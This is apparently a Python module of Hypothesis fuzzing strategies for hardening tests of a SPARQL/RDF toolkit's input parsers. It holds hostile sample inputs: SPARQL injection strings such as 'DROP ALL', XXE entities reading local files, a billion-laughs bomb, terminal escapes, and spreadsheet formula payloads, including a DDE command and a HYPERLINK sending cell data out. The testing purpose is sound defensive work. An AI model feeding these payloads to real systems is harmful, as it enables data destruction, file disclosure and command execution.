"""Hypothesis strategies for the parsers of user input, shared by the hardening tests.

Each strategy draws what a user (or an attacker) could type: text that tries to escape a SPARQL
literal or IRI, CURIEs of the package prefix map with awkward local parts, ``KEY=VALUE`` pairs,
query-file headers and raw bytes for RDF files.
"""

from __future__ import annotations

from hypothesis import strategies as st

from cptkg.core.prefixes import NAMESPACES
from cptkg.core.rdfio import FORMATS

#: Fragments that would change a query if a value were pasted into its text.
SPARQL_ESCAPES = (
    '"', "'", '"""', "'''", "\\", "<", ">", "{", "}", "(", ")", "#", "\n", "\r", "\t", ";", ".", ",", "?", "$",
    "^^", "@en", "*", "|", "\x00",
    " UNION { ?s ?p ?o } ", "} UNION {", " FILTER(true) ", "} OPTIONAL {", "DELETE WHERE { ?s ?p ?o }",
    "; DROP ALL ;", "INSERT DATA { <urn:x> <urn:y> <urn:z> }", " SERVICE <http://example.org/sparql> { } ",
    "LOAD <http://example.org/x.ttl>", "VALUES ?code { '81311' }", " BIND(1 AS ?x) ", "LIMIT 0", "#}",
)  # fmt: skip

#: Concrete hostile values: each tries to close a literal or an IRI and add its own graph pattern.
HOSTILE_VALUES = (
    '81311" } UNION { ?s ?p ?o } #',
    "81311' } UNION { ?s ?p ?o } #",
    '81311"""} ?s ?p ?o {"""',
    "81311\n} UNION { ?s ?p ?o }\n#",
    "81311 # comment",
    "81311} DELETE WHERE { ?s ?p ?o } #",
    '81311" . ?code ?p ?o . FILTER(true) #',
    "'81311'",
    '"81311"',
    "81311\\",
    "81311\x00",
    "<https://w3id.org/cptkg/code-81311>",
    "cptkg:code-81311> } UNION { ?s ?p ?o } #",
    "cptkg:gene-NRAS } ?s ?p ?o {",
    "cptkg:gene-NRAS\n} UNION {",
    "https://w3id.org/cptkg/gene-NRAS> ?p ?o } UNION { ?s",
    "https://w3id.org/cptkg/gene-NRAS#>",
    "DROP ALL",
    "} ; CLEAR DEFAULT ; {",
    "1 } UNION { ?s ?p ?o",
    "12 ; DROP ALL",
    "0x10",
    "1e3",
    "",
    " ",
)


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Any text, weighted towards the characters and keywords that break out of a SPARQL term."""
    piece = st.one_of(st.sampled_from(SPARQL_ESCAPES), st.text(max_size=6), st.sampled_from(["81311", "NRAS", "12"]))
    return st.one_of(
        st.sampled_from(HOSTILE_VALUES),
        st.lists(piece, max_size=6).map("".join).map(lambda text: text[:max_size]),
        st.text(max_size=max_size),
    )


prefix_names = st.sampled_from(sorted(NAMESPACES))

#: Local parts of IRIs that are valid, including the characters RFC 3987 allows beyond letters.
iri_local_parts = st.text(alphabet=st.sampled_from("abcXYZ0129-._~:@!$&'()*+,;=/%é"), min_size=0, max_size=20).filter(
    lambda local: "%" not in local
)


@st.composite
def known_iris(draw) -> str:
    """A full IRI under one of the package's namespaces."""
    return NAMESPACES[draw(prefix_names)] + draw(iri_local_parts)


@st.composite
def curie_like(draw) -> str:
    """A string that looks like a CURIE, with a known or unknown prefix and any local part."""
    prefix = draw(st.one_of(prefix_names, st.text(max_size=8)))
    return f"{prefix}:{draw(hostile_text(20))}"


@st.composite
def param_pairs(draw) -> list[str]:
    """What a user passes as repeated ``--param`` arguments (well-formed or not)."""
    key = st.one_of(st.sampled_from(["code", "resource", "n", "text"]), st.text(max_size=8))
    pair = st.one_of(
        st.tuples(key, hostile_text(20)).map(lambda kv: f"{kv[0]}={kv[1]}"),
        hostile_text(20),
    )
    return draw(st.lists(pair, max_size=4))


header_keys = st.sampled_from(["title", "description", "param", "severity", "why", "fix", "Title", "x_y", ""])
param_declarations = st.one_of(
    st.builds(
        lambda name, kind, optional, text: f"{name} ({kind}{', optional' if optional else ''}) {text}",
        st.sampled_from(["code", "resource", "n", "text", "1bad", ""]),
        st.sampled_from(["code", "string", "resource", "integer", "float", ""]),
        st.booleans(),
        st.text(max_size=10),
    ),
    st.text(max_size=20),
)


@st.composite
def query_files(draw) -> str:
    """The text of a ``.rq`` file: a header of comment lines (valid or not), then a query."""
    lines = []
    for _ in range(draw(st.integers(0, 5))):
        kind = draw(st.sampled_from(["field", "param", "continuation", "junk"]))
        if kind == "field":
            lines.append(f"# {draw(header_keys)}: {draw(st.text(max_size=15))}")
        elif kind == "param":
            lines.append(f"# param: {draw(param_declarations)}")
        elif kind == "continuation":
            lines.append(f"#   {draw(st.text(max_size=10))}")
        else:
            lines.append("#" + draw(st.text(max_size=15)))
    variables = draw(st.sampled_from(["?code", "?n ?text", "?resource", "?x"]))
    body = f"SELECT {variables} WHERE {{ ?s ?p ?o }}"
    return "\n".join([*lines, body]) + "\n"


format_names = st.sampled_from(sorted(FORMATS))
file_names = st.one_of(
    st.sampled_from(["data.ttl", "data.TTL", "x.nt", "x.nq", "x.trig", "x.jsonld", "x.json", "x.rdf", "x.owl",
                     "x.xml", "x.csv", "x.png", "x", ".ttl", "x.ttl.bak", "x.tar.gz", "dir/x.ttl"]),
    st.text(max_size=12),
)  # fmt: skip


def rdf_bytes(fmt: str) -> st.SearchStrategy[bytes]:
    """Bytes for a file of one RDF format: mutations of a small valid document, or noise."""
    valid = {
        "turtle": '@prefix ex: <http://example.org/> .\nex:a ex:p "x" ; ex:q ex:b .\n',
        "n-triples": '<http://example.org/a> <http://example.org/p> "x" .\n',
        "n-quads": '<http://example.org/a> <http://example.org/p> "x" <http://example.org/g> .\n',
        "trig": '@prefix ex: <http://example.org/> .\nex:g { ex:a ex:p "x" . }\n',
        "json-ld": '{"@id": "http://example.org/a", "http://example.org/p": "x"}\n',
        "rdf-xml": '<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:ex="http://example.org/"><rdf:Description rdf:about="http://example.org/a">'
        "<ex:p>x</ex:p></rdf:Description></rdf:RDF>\n",
    }[fmt].encode()

    @st.composite
    def mutated(draw) -> bytes:
        data = bytearray(valid)
        for _ in range(draw(st.integers(1, 4))):
            position = draw(st.integers(0, len(data)))
            action = draw(st.sampled_from(["insert", "delete", "truncate"]))
            if action == "insert":
                data[position:position] = draw(
                    st.binary(min_size=1, max_size=4)
                    | st.sampled_from(
                        [b'"', b"<", b">", b"{", b"}", b"\n", b".", b"\xff", b"\xe9", b"\x00", b"@context"]
                    )
                )
            elif action == "delete":
                del data[position : position + draw(st.integers(1, 5))]
            else:
                del data[position:]
        return bytes(data)

    return st.one_of(mutated(), st.binary(max_size=200), st.just(valid))


# ---------------------------------------------------------------- hostile input classes of issue 17
# (nesting depth, entity declarations, file names, control characters, spreadsheet formulas)

#: How a SPARQL query nests: (opening, one level's closing) around a core, per kind.
SPARQL_NESTINGS = {
    "group": ("SELECT * WHERE ", "{", "}", ""),
    "filter": ("SELECT * WHERE { FILTER", "(", ")", "true"),
    "optional": ("SELECT * WHERE { ?s ?p ?o ", "OPTIONAL { ?s ?p ?o ", "}", ""),
    "subselect": ("SELECT * WHERE ", "{ SELECT * WHERE ", "}", "{ }"),
    "path": ("SELECT * WHERE { ?s ", "(", ")", "rdfs:label"),
    "blank-node": ("SELECT * WHERE { ?s ?p ", "[ ?p ", "]", "?o"),
    "expression": ("SELECT (", "(", ")", "1"),
}


def nested_query(kind: str, depth: int) -> str:
    """A SPARQL query nested ``depth`` levels deep in one of the :data:`SPARQL_NESTINGS` ways.

    >>> nested_query("group", 2)
    'SELECT * WHERE {{}}'
    >>> nested_query("filter", 1)
    'SELECT * WHERE { FILTER(true) }'
    """
    head, opening, closing, core = SPARQL_NESTINGS[kind]
    tail = {"group": "", "subselect": "", "expression": " AS ?x) WHERE { }", "blank-node": " }"}.get(kind, " }")
    if kind == "path":
        tail = " ?o }"
    return head + opening * depth + core + closing * depth + tail


#: Nesting depths: shallow ones every parser takes, and deep ones that exhaust a recursive parser's stack.
nesting_depths = st.one_of(st.integers(1, 50), st.sampled_from([500, 2_000, 5_000, 20_000]))


@st.composite
def nested_queries(draw, depths: st.SearchStrategy[int] = nesting_depths) -> str:
    """A query nested at any depth in any of the ways SPARQL nests."""
    return nested_query(draw(st.sampled_from(sorted(SPARQL_NESTINGS))), draw(depths))


@st.composite
def nested_json(draw, depths: st.SearchStrategy[int] = nesting_depths) -> str:
    """A JSON value nested ``depth`` arrays or objects deep (a claim line, an OBO Graph document)."""
    depth = draw(depths)
    if draw(st.booleans()):
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


@st.composite
def entity_documents(draw) -> str:
    """An RDF/XML document whose DTD declares entities: internal, nested (a small billion laughs),
    external (a file or a URL), parameter entities, used in text or in an attribute.

    Every one is small enough to expand harmlessly; a parser that refuses DTD entities refuses each.
    """
    kind = draw(st.sampled_from(["internal", "nested", "external-file", "external-url", "parameter", "attribute"]))
    width, depth = draw(st.integers(1, 3)), draw(st.integers(1, 3))
    declarations = ['<!ENTITY e0 "lol">']
    use = "&e0;"
    if kind == "nested":
        declarations += [f'<!ENTITY e{i} "{f"&e{i - 1};" * width}">' for i in range(1, depth + 1)]
        use = f"&e{depth};"
    elif kind == "external-file":
        declarations = ['<!ENTITY e0 SYSTEM "file:///etc/hostname">']
    elif kind == "external-url":
        declarations = ['<!ENTITY e0 SYSTEM "http://127.0.0.1:9/entity">']
    elif kind == "parameter":
        declarations = ['<!ENTITY % p "<!ENTITY e0 \'lol\'>">', "%p;"]
    text_use, attribute_use = (use, "x") if kind != "attribute" else ("x", use)
    return (
        '<?xml version="1.0"?>\n'
        f"<!DOCTYPE rdf:RDF [\n  {chr(10).join(declarations)}\n]>\n"
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
        f'  <rdf:Description rdf:about="http://example.org/a" ex:q="{attribute_use}"><ex:p>{text_use}</ex:p></rdf:Description>\n'
        "</rdf:RDF>\n"
    )


def billion_laughs(levels: int = 9, width: int = 10) -> str:
    """The classic entity bomb as RDF/XML: under 1 KB, ``width ** levels`` copies of "lol" expanded."""
    declarations = ['<!ENTITY e0 "lol">'] + [f'<!ENTITY e{i} "{f"&e{i - 1};" * width}">' for i in range(1, levels + 1)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n  ' + "\n  ".join(declarations) + "\n]>\n"
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
        f'  <rdf:Description rdf:about="http://example.org/a"><ex:p>&e{levels};</ex:p></rdf:Description>\n'
        "</rdf:RDF>\n"
    )


#: Characters a file name may hold that an IRI, a shell, a CSV cell or a terminal may not.
FILE_NAME_TROUBLE = (
    " ", "  ", "#", "%", "%20", "?", "&", '"', "'", "<", ">", "{", "}", "|", "\\", "^", "`", "[", "]", ";", ",",
    "=", "+", "@", "$", "!", "*", ":", "~", "é", "\u00a0", "\u200b", "\u202e", "日本", "\U0001f9ec", "\t", "\n",
    "\r", "\x1b[31m", "\x7f", "-", "--", ".", "..",
)  # fmt: skip


@st.composite
def hostile_file_names(draw, max_size: int = 60) -> str:
    """A file name (no folder part) the file system accepts and a careless program does not: white
    space, IRI and shell specials, percent signs, non-ASCII and bidi characters, control characters."""
    pieces = draw(st.lists(st.one_of(st.sampled_from(FILE_NAME_TROUBLE), st.text("abcXYZ019_", min_size=1, max_size=4)),
                           min_size=1, max_size=6))  # fmt: skip
    name = "".join(pieces)[:max_size].replace("/", "_").replace("\x00", "_")
    if name in ("", ".", ".."):
        name = "x" + name
    return name


#: Control characters and terminal escape sequences: C0, DEL, C1 (CSI is U+009B), ANSI colour and
#: cursor sequences, an OSC hyperlink, a title change, a bidi override.
CONTROL_PIECES = (
    "\x1b[31m", "\x1b[0m", "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://example.org/\x1b\\link\x1b]8;;\x1b\\",
    "\x07", "\x08", "\r", "\x0b", "\x0c", "\x00", "\x7f", "\x9b31m", "\x85", "\u202e",
)  # fmt: skip


@st.composite
def control_text(draw, max_pieces: int = 6) -> str:
    """Text that holds at least one control character or terminal escape among ordinary words."""
    pieces = draw(st.lists(st.one_of(st.sampled_from(CONTROL_PIECES), st.text("abc XYZ19", max_size=5)),
                           max_size=max_pieces))  # fmt: skip
    return "".join(pieces) + draw(st.sampled_from(CONTROL_PIECES))


#: Leading characters that make a spreadsheet read a CSV cell as a formula (OWASP's list).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


@st.composite
def formula_cells(draw) -> str:
    """A cell a spreadsheet would run: a formula lead character, then a payload."""
    payload = draw(st.sampled_from(['HYPERLINK("http://example.org/?x="&A1,"click")', "1+1", "cmd|' /C calc'!A0",
                                    "SUM(A1:A9)", "2+5+cmd|' /C calc'!A0", "A1"]))  # fmt: skip
    return draw(st.sampled_from(FORMULA_LEADS)) + payload
